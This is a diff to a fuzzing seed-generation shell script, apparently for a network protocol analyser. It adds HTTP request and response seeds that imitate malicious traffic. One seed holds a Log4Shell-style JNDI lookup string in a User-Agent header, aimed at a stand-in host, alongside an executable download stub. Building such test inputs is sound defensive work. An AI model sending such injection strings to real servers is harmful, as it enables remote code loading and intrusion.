@@ -23,8 +23,10 @@ seeds_decode=$OUT/seeds/decode
 seeds_overnet=$OUT/seeds/overnet
 seeds_report=$OUT/seeds/report
 seeds_tls=$OUT/seeds/tls
+seeds_http=$OUT/seeds/http
 seeds_protos=$OUT/seeds/protos
 mkdir -p "$seeds_report" "$OUT/corpus/report" "$seeds_tls" "$OUT/corpus/tls" "$seeds_protos" "$OUT/corpus/protos"
+mkdir -p "$seeds_http" "$OUT/corpus/http"
 mkdir -p "$seeds_reader" "$seeds_decode" "$seeds_overnet" "$OUT/corpus/reader" "$OUT/corpus/decode" \
 	"$OUT/corpus/overnet" "$OUT/artifacts"
 
@@ -118,7 +120,26 @@ seg() { printf "\\$(printf %03o $(( $1 % 256 )))\\$(printf %03o $(( $1 / 256 )))
 { printf '\000\200\000\021\134'; seg 72 1; printf 'MZ'; head -c 58 /dev/zero; printf '\100\000\000\000'; head -c 4 /dev/zero; printf 'PE\000\000'; } > "$seeds_protos/stage"
 { printf '\002\000\010\000\000'; seg 28 0; printf '\105\000\000\034\000\001\000\000\100\001\000\000\012\000\000\001\012\000\000\002\010\000\000\000\000\000\000\000'; } > "$seeds_protos/icmp"
 
-for h in fuzz_decode fuzz_reader fuzz_overnet fuzz_report fuzz_tls fuzz_protos; do
+# HTTP seeds (fuzz_http.c's format: flags, 2-byte length, bytes per segment)
+http_seg() {  # DIRFLAGS TEXT
+	n=$(printf '%s' "$2" | wc -c)
+	printf "\\$(printf %03o "$1")\\$(printf %03o $((n >> 8)))\\$(printf %03o $((n & 255)))"
+	printf '%s' "$2"
+}
+crlf=$(printf '\r\n_')
+crlf=${crlf%_}
+{ http_seg 0 "GET /a.exe HTTP/1.1${crlf}Host: 10.0.0.1:8080${crlf}User-Agent: \${jndi:ldap://x/a}${crlf}${crlf}"
+  http_seg 1 "HTTP/1.1 200 OK${crlf}Content-Type: application/octet-stream${crlf}Transfer-Encoding: chunked${crlf}${crlf}4${crlf}MZ..${crlf}0${crlf}${crlf}"
+  http_seg 0 "POST /u HTTP/1.1${crlf}Host: h${crlf}Content-Type: application/x-www-form-urlencoded${crlf}Content-Length: 13${crlf}${crlf}user=a&pass=b"
+  http_seg 1 "HTTP/1.1 302 Found${crlf}Location: http://x/${crlf}Content-Length: 0${crlf}${crlf}"; } > "$seeds_http/keepalive"
+
+# fuzz_protos (fuzz_protos.c's format): TCP 40000 -> 80, a request, then its response
+{ printf '\000\234\100\000\120'
+  req="GET / HTTP/1.1${crlf}Host: h${crlf}${crlf}" res="HTTP/1.1 200 OK${crlf}Content-Length: 2${crlf}${crlf}MZ"
+  printf "\\$(printf %03o $(printf '%s' "$req" | wc -c))\\000\\000"; printf '%s' "$req"
+  printf "\\$(printf %03o $(printf '%s' "$res" | wc -c))\\000\\001"; printf '%s' "$res"; } > "$seeds_protos/http-keepalive"
+
+for h in fuzz_decode fuzz_reader fuzz_overnet fuzz_report fuzz_tls fuzz_http fuzz_protos; do
 	name=${h#fuzz_}
 	# replay saved reproducers
 	if [ -d "fuzz/regress/$name" ] && [ -n "$(ls "fuzz/regress/$name" 2>/dev/null)" ]; then
